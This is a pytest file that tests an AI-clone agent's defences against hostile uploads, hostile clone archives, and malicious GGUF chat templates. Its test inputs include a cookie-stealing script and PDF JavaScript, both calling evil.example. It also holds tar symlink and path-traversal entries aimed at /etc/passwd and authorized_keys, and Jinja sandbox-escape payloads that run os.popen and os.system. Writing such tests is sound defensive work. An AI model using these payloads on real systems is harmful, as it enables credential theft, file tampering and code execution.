"""Files from outside: uploads to the knowledge base, clone archives, the model's chat template.

Each case is named after the attack. Uploads go through the in-process agent app with the real
parsers, ChromaDB and tiny model; archives through ``import_clone``; templates through the
renderer the engine uses.
"""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
from pathlib import Path

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript

from aiclone_agent.bundle.archive import FORMAT, VERSION, ArchiveError, import_clone
from aiclone_agent.chat.template import Message, PromptRenderer
from aiclone_agent.core.config import EnvSettings
from aiclone_agent.engine.base import ChatTemplate, EngineError
from tests.local_inference.rag.documents import EN_FACTS, pdf_bytes
from tests.support.documents_api import upload, wait_indexed

# -- the knowledge base ---------------------------------------------------------------------------


async def test_html_named_pdf_is_read_as_html_and_its_script_is_not_indexed(agent):
    page = b"<html><body><script>fetch('https://evil.example/'+document.cookie)</script><p>Lamps last 36 months.</p></body></html>"
    document = await upload(agent.client, "invoice.pdf", page)
    assert document["kind"] == "html"  # decided by the bytes, not by the name
    await wait_indexed(agent.client)
    hits = (await agent.client.get("/api/rag/search", params={"q": "lamps months", "k": 5})).json()
    assert hits and all("evil.example" not in hit["text"] and "script" not in hit["text"] for hit in hits)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("photo.docx", b"\x7fELF\x02\x01\x01" + bytes(200)),  # a program named as a document
        ("notes.txt", b"MZ\x90\x00\x03" + bytes(300)),  # a Windows executable
        ("report.docx", b"PK\x03\x04" + bytes(60)),  # a damaged zip with the docx magic
    ],
    ids=["elf-as-docx", "exe-as-txt", "broken-zip-as-docx"],
)
async def test_spoofed_types_are_refused_and_nothing_is_kept(agent, name, data):
    response = await agent.client.post("/api/rag/documents", files={"file": (name, data, "application/pdf")})
    assert response.status_code == 415, response.text
    assert response.json()["error"]["code"] == "unsupported_document"
    assert (await agent.client.get("/api/rag/documents")).json() == []


async def test_pdf_with_javascript_is_indexed_as_its_text_only(agent):
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes(EN_FACTS))))
    writer.add_open_action(JavaScript("app.alert('pwned'); this.submitForm('https://evil.example/');"))
    out = io.BytesIO()
    writer.write(out)
    document = await upload(agent.client, "lamps.pdf", out.getvalue())
    (ready,) = await wait_indexed(agent.client)
    assert ready["id"] == document["id"] and ready["status"] == "ready"
    hits = (await agent.client.get("/api/rag/search", params={"q": "ceramic lamp warranty", "k": 10})).json()
    assert any("ceramic" in hit["text"].lower() for hit in hits)
    assert all("app.alert" not in hit["text"] and "evil.example" not in hit["text"] for hit in hits)


# -- clone archives (python -m aiclone_agent import) ------------------------------------------------


def _archive(path: Path, members: list[tarfile.TarInfo], payloads: dict[str, bytes], listed: dict[str, str]):
    with tarfile.open(path, "w:gz") as archive:
        manifest = json.dumps({"format": FORMAT, "version": VERSION, "files": listed}).encode()
        info = tarfile.TarInfo("manifest.json")
        info.size = len(manifest)
        archive.addfile(info, io.BytesIO(manifest))
        for member in members:
            archive.addfile(member, io.BytesIO(payloads.get(member.name, b"")))
    return path


def _env(tmp_path: Path) -> EnvSettings:
    home = tmp_path / "home"
    return EnvSettings(config=home / "config.yaml", data_dir=home / "data", models_dir=home / "models")


def test_a_symlink_inside_a_clone_archive_is_refused(tmp_path: Path):
    link = tarfile.TarInfo("data/conversations.sqlite3")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    source = _archive(tmp_path / "clone.tar.gz", [link], {}, {"data/conversations.sqlite3": "0" * 64})
    env = _env(tmp_path)
    with pytest.raises(ArchiveError, match="not a plain file"):
        import_clone(env, source)
    assert not env.data_dir.exists() and not env.config.exists()


@pytest.mark.parametrize("name", ["data/../../escaped.txt", "/tmp/escaped.txt", "home/.ssh/authorized_keys"])
def test_path_traversal_names_in_a_clone_archive_are_refused(tmp_path: Path, name: str):
    payload = b"ssh-ed25519 AAAA attacker"
    member = tarfile.TarInfo(name)
    member.size = len(payload)
    digest = hashlib.sha256(payload).hexdigest()
    source = _archive(tmp_path / "clone.tar.gz", [member], {name: payload}, {name: digest})
    env = _env(tmp_path)
    with pytest.raises(ArchiveError, match="outside the clone's folders"):
        import_clone(env, source)
    assert not any(p.name in ("escaped.txt", "authorized_keys") for p in tmp_path.rglob("*"))
    assert not Path("/tmp/escaped.txt").exists()


# -- the chat template inside a GGUF (llama-cpp-python's CVE-2024-34359) -----------------------------


@pytest.mark.parametrize(
    "source",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('touch {marker}').read() }}",
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system('touch {marker}') }}",
        "{% for m in messages %}{{ messages.append(m) }}{% endfor %}",  # mutation: the sandbox is immutable
    ],
    ids=["subclasses", "cycler-globals", "context-globals", "mutate-messages"],
)
def test_a_chat_template_that_reaches_for_python_cannot_escape_the_sandbox(tmp_path: Path, source: str):
    marker = tmp_path / "PWNED"
    template = ChatTemplate(source=source.replace("{marker}", str(marker)), bos_token="", eos_token="")
    with pytest.raises(EngineError, match="chat template failed"):
        PromptRenderer(template).render([Message("user", "hi")])
    assert not marker.exists()
